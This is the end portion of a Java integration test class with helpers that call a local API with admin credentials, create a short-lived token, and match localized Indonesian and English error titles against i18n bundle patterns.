    private Answer exchange(String method, String path, String contentType, byte[] body, String language)
            throws IOException, InterruptedException {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .timeout(Duration.ofSeconds(60))
                .header("Accept", "application/json, application/problem+json")
                .header("Accept-Language", language);
        if (token != null) {
            b.header("Authorization", "Bearer " + token);
        } else {
            b.header("Authorization", "Basic " + java.util.Base64.getEncoder()
                    .encodeToString(bytes(ADMIN + ":" + PASSWORD)));
        }
        if (contentType != null) {
            b.header("Content-Type", contentType);
        }
        b.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        HttpResponse<byte[]> r = http.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
        return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(null),
                new String(r.body(), StandardCharsets.UTF_8), r.headers().firstValue("Location").orElse(null));
    }

    private String createToken() throws Exception {
        Answer a = exchange("POST", "/api/v1/me/tokens", "application/json",
                bytes("{\"name\":\"katalog-masukan-buruk\",\"expiresInDays\":1}"), "id");
        assertThat(a.status()).as("token for " + ADMIN + ": " + a.body()).isEqualTo(201);
        return JSON.readTree(a.body()).get("token").asString();
    }

    /**
     * A title composed from a bundle pattern ("{0} terlalu besar" with the file's subject): each placeholder may stand
     * for any text, every literal part must be there, and a pattern of placeholders alone proves nothing.
     */
    private static boolean fromPattern(String title, Set<String> bundleValues) {
        for (String v : bundleValues) {
            if (!v.contains("{")) {
                continue;
            }
            String literal = v.replaceAll("\\{\\d+(,[^}]*)?}", "").replace("''", "'").trim();
            if (literal.length() < 3) {
                continue;
            }
            StringBuilder regex = new StringBuilder();
            for (String part : v.replace("''", "'").split("\\{\\d+(,[^}]*)?}", -1)) {
                regex.append(regex.isEmpty() ? "" : ".+").append(Pattern.quote(part));
            }
            if (title.matches(regex.toString())) {
                return true;
            }
        }
        return false;
    }

    private void loadTitles() throws IOException {
        indonesianTitles = new LinkedHashSet<>();
        englishTitles = new LinkedHashSet<>();
        for (Resource r : new PathMatchingResourcePatternResolver().getResources("classpath*:i18n/*_*.properties")) {
            Properties p = new Properties();
            try (InputStream in = r.getInputStream()) {
                p.load(new java.io.InputStreamReader(in, StandardCharsets.UTF_8));
            }
            Set<String> target = r.getFilename().endsWith("_en.properties") ? englishTitles : indonesianTitles;
            p.values().forEach(v -> target.add(String.valueOf(v)));
        }
        // the 401 of the security chain is written before any message source is consulted
        indonesianTitles.add("Belum masuk");
        englishTitles.add("Unauthorized");
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
